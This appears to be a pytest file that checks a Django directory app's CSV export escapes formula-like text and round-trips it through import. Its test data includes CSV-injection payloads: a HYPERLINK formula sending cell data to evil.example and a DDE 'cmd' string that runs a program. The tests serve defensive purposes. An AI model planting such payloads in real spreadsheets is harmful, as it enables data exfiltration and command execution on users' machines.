"""CSV export: text a spreadsheet would run as a formula is written as text, and reads back."""

from __future__ import annotations

import csv
import io

import pytest

from muhabir.directory.csv_io.exporting import export_csv
from muhabir.directory.csv_io.importing import import_csv
from muhabir.directory.models import Association
from tests.factories.directory import AssociationFactory, PlaceFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Tıkla")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(kind: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export_csv(kind).removeprefix("\ufeff"))))


@pytest.mark.parametrize("value", FORMULAS)
def test_text_starting_like_a_formula_is_exported_as_text(value):
    AssociationFactory(
        name="Dernek", slug="dernek", city="Köln", description_tr=value, contact_person=value
    )

    (row,) = _rows("associations")

    assert row["description_tr"] == f"'{value}"
    assert row["contact_person"] == f"'{value}"


def test_numbers_are_written_as_numbers_even_when_negative():
    PlaceFactory(
        name="Batı", slug="bati", category="cafe", city="Köln", latitude=-12.5, longitude=-0.25
    )

    (row,) = _rows("places")

    assert (row["latitude"], row["longitude"]) == ("-12.5", "-0.25")


@pytest.mark.parametrize(
    "value",
    [*FORMULAS[:4], "- Kurs für Anfänger", "'=quoted already", "''+twice", "'plain quote'"],
)
def test_export_and_import_give_back_the_text_as_it_was(value):
    AssociationFactory(
        name="Dernek", slug="dernek", city="Köln", description_tr=value, phone="+49 221 0"
    )
    exported = export_csv("associations")
    Association.objects.all().delete()

    report = import_csv("associations", exported)

    assert report.ok and report.created == 1, [str(error) for error in report.errors]
    association = Association.objects.get()
    assert (association.description_tr, association.phone) == (value, "+49 221 0")
    assert export_csv("associations") == exported
    again = import_csv("associations", exported)
    assert again.unchanged == 1
